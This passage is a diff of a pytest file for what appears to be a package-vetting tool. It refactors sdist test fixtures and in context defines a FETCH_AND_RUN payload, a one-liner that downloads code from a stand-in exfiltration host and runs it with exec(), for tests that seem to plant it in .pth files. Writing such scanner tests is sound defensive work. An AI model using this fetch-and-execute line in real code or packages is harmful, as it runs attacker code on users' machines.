@@ -17,7 +17,7 @@ from pathlib import Path
 import pytest
 
 from mcpward.vet import VetOptions, run_vet
-from vet_fixtures import sdist
+from vet_fixtures import relay_sdist
 
 FETCH_AND_RUN = (
     'import urllib.request; exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
@@ -26,9 +26,7 @@ SETUP_PY = "from setuptools import setup\n\nsetup(name='relay-mcp', data_files=[
 
 
 def _sdist(folder: Path, version: str, files: dict[str, str]) -> Path:
-    path = folder / f"relay_mcp-{version}.tar.gz"
-    path.write_bytes(sdist("relay_mcp", version, {"relay_mcp/__init__.py": "", **files}))
-    return path
+    return relay_sdist(folder, version, files)
 
 
 @pytest.mark.parametrize("pth", ["tests/relay.pth", "docs/site/relay.pth"])
